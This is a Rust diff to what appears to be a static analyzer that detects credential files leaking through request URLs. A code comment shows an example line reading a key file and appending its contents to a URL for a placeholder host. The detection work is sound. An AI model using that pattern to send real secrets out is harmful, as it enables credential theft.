@@ -1,7 +1,7 @@
 //! A call's arguments, by place and by name.
 
 use crate::classify::{Scene, Word, http, paths};
-use crate::model::{Resource, ResourceKind};
+use crate::model::{Area, Resource, ResourceKind};
 
 use super::super::lexer::Kind;
 use super::super::value::{Reading, Value};
@@ -110,6 +110,9 @@ impl Made<'_, '_> {
             .flat_map(|body| &body.files)
             .map(|file| paths::resource(scene, file, ResourceKind::File))
             .collect();
+        // `get("https://x/?k=" + open(key).read())`; a list of addresses in a file is no such thing.
+        let told = url.files.iter().map(|file| paths::resource(scene, file, ResourceKind::File));
+        carries.extend(told.filter(|file| file.areas.has(Area::Credential)));
         if bodies.iter().any(|body| body.environment) {
             carries.push(Resource::new(ResourceKind::Secret, "environment"));
         }
